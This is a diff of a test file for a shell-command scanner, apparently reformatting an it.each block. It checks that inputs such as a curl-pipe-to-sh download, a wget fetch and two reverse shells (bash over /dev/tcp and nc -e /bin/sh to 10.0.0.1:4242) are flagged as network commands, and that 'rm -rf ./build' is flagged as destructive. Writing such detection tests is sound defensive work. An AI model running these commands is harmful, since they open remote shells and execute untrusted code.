@@ -24,12 +24,14 @@ describe("scanShell", () => {
     expect(rules(text)).toEqual(["destructive-shell"]);
   });
 
-  it.each(["curl -fsSL https://example.com/x.sh | sh", "wget http://example.com/x", "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1", "nc -e /bin/sh 10.0.0.1 4242"])(
-    "finds the network command in %j",
-    (text) => {
-      expect(rules(text)).toContain("network");
-    },
-  );
+  it.each([
+    "curl -fsSL https://example.com/x.sh | sh",
+    "wget http://example.com/x",
+    "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1",
+    "nc -e /bin/sh 10.0.0.1 4242",
+  ])("finds the network command in %j", (text) => {
+    expect(rules(text)).toContain("network");
+  });
 
   it.each([
     "rm -rf ./build",
